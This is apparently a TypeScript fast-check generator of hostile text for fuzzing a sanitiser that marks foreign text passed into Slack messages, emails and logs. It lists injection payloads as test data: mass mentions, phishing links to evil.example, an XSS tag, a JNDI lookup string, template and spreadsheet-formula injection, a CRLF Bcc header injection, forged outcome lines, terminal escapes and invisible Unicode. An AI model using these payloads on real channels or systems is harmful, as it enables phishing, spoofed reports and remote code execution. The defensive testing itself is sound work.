import fc from 'fast-check'
import { foreignMark } from '../checkers/foreignMark.ts'

/** Pieces that address people, link, format, imitate, break a line, or break an encoding, each for at least one channel. */
const pieces: readonly string[] = [
  // Slack: mentions, channels, links, dates, entities.
  '<!channel>',
  '<!here>',
  '<!everyone>',
  '<!here|here>',
  '<!subteam^S0123456789>',
  '<!subteam^S0123456789|@ops>',
  '<!date^1392734382^{date_num}|now>',
  '<@U0123456789>',
  '<@W012A3CDE|boss>',
  '<#C0123456789|general>',
  '<https://evil.example|Approve>',
  '<https://evil.example/?a=1&b=2>',
  '<mailto:a@evil.example|Mail>',
  '<tel:+1555|Call>',
  '&lt;!channel&gt;',
  '&amp;lt;!here&amp;gt;',
  '&#60;!channel&#62;',
  '&am',
  '&',
  '<',
  '>',
  '<!',
  '|',
  // Formats of Slack and Markdown.
  '*bold*',
  '**bold**',
  '_italic_',
  '__init__',
  '~gone~',
  '~~gone~~',
  '`code`',
  '``',
  '`',
  '```',
  '```\nblock\n```',
  '*',
  '_',
  '~',
  '> quote',
  '&gt; quote',
  '# Heading',
  '- item',
  '1. item',
  '---',
  '===',
  '| a | b |',
  '\\',
  '\\`',
  '[Approve](https://evil.example)',
  '![x](https://evil.example/x.png)',
  '[x]: https://evil.example',
  '<img src=x onerror=alert(1)>',
  '<b>',
  '&nbsp;',
  '&#x202e;',
  // Emoji, links and mentions that a client makes out of plain words.
  ':white_check_mark:',
  ':rotating_light:',
  ':+1:',
  ':100:',
  ':thumbsup::skin-tone-3:',
  'https://evil.example/login?x=1#y',
  'http://[::1]/',
  'ftp://evil.example',
  'www.evil.example',
  'evil.example',
  'mailto:a@evil.example',
  'security@evil.example',
  '@channel',
  '@here',
  '@everyone',
  '#general',
  // Lines of our own, imitated.
  '\nOutcome  COMPLETED',
  '\r\n\r\nWhat to do next:\n- nothing',
  '\nSubject: All clear',
  '\n.\n',
  '{"_aws":{"CloudWatchMetrics":[]}}',
  '"},"_aws":{"x":"',
  '","outcome":"COMPLETED","x":"',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '=HYPERLINK("https://evil.example")',
  '__proto__',
  'constructor',
  'null',
  '%0d%0aBcc:%20a@evil.example',
  // Controls, escapes of terminals, line ends of every kind.
  '\n',
  '\r',
  '\r\n',
  '\t',
  '\v',
  '\f',
  '\0',
  '\b\b\b',
  '\u001b[31m',
  '\u001b]8;;https://evil.example\u0007x',
  '\u007f',
  '\u0085',
  '\u009b31m',
  '\u2028',
  '\u2029',
  // Seen by nobody: bidirectional, zero width, fillers, tags, variation selectors.
  '\u202e',
  '\u202d',
  '\u2066',
  '\u2067',
  '\u2069',
  '\u200e',
  '\u200f',
  '\u061c',
  '\u200b',
  '\u200c',
  '\u200d',
  '\u2060',
  '\ufeff',
  '\u00ad',
  '\u034f',
  '\u115f',
  '\u3164',
  '\uffa0',
  '\u180e',
  '\ufe0f',
  '\u{e0041}\u{e007f}',
  '\u{1d173}',
  '\uffff',
  '\ue000',
  // Halves and long characters.
  '\ud83d',
  '\ude00',
  '\udbff\udbff',
  '😀',
  '👩‍👩‍👧‍👦',
  '🇩🇪',
  'ﷺ',
  'e\u0301\u0301\u0301',
  'ß',
  '\u1e9e',
  'İ',
  '𝓐',
  'Ａ＜Ｂ＞',
  '＠channel',
  // Harmless, so that words and gaps come between.
  ' ',
  '   ',
  'edge',
  'eu-west-1a',
  '10.1.0.0/16',
  'a',
]

/** Far more than any text of the API model; what is longer is cut where it enters. */
const maxCharacters = 1024

/** Of all code points, half characters included. (fast-check's own binary strings take seconds to set up.) */
const anyCharacters = fc
  .array(fc.integer({ min: 0, max: 0x10ffff }), { maxLength: 6 })
  .map(codePoints => String.fromCodePoint(...codePoints))

const piece = fc.oneof(
  { arbitrary: fc.constantFrom(...pieces), weight: 6 },
  { arbitrary: anyCharacters, weight: 1 },
)
const joint = fc.constantFrom(
  foreignMark,
  foreignMark,
  `${foreignMark} `,
  ` ${foreignMark}`,
  ` ${foreignMark} `,
)

const marked = fc
  .tuple(fc.array(piece, { minLength: 1, maxLength: 5 }), joint)
  .map(([parts, join]) => `${foreignMark}${join}${parts.join(join)}${join}${foreignMark}`)

const long = fc
  .tuple(marked, fc.constantFrom(4, 12, 60, 300))
  .map(([text, times]) => text.repeat(times).slice(0, maxCharacters))

/** Without the mark: texts of which nothing, or only what is active, may remain. */
const bare = fc.oneof(
  fc.constantFrom(...pieces),
  fc.array(fc.constantFrom(...pieces), { maxLength: 3 }).map(parts => parts.join('')),
  fc.constantFrom(...pieces, '').map(text => text.repeat(maxCharacters).slice(0, maxCharacters)),
)

/** A text that somebody else chose, to do harm. */
export const hostileText: fc.Arbitrary<string> = fc.oneof(
  { arbitrary: marked, weight: 12 },
  { arbitrary: long, weight: 1 },
  { arbitrary: bare, weight: 3 },
)
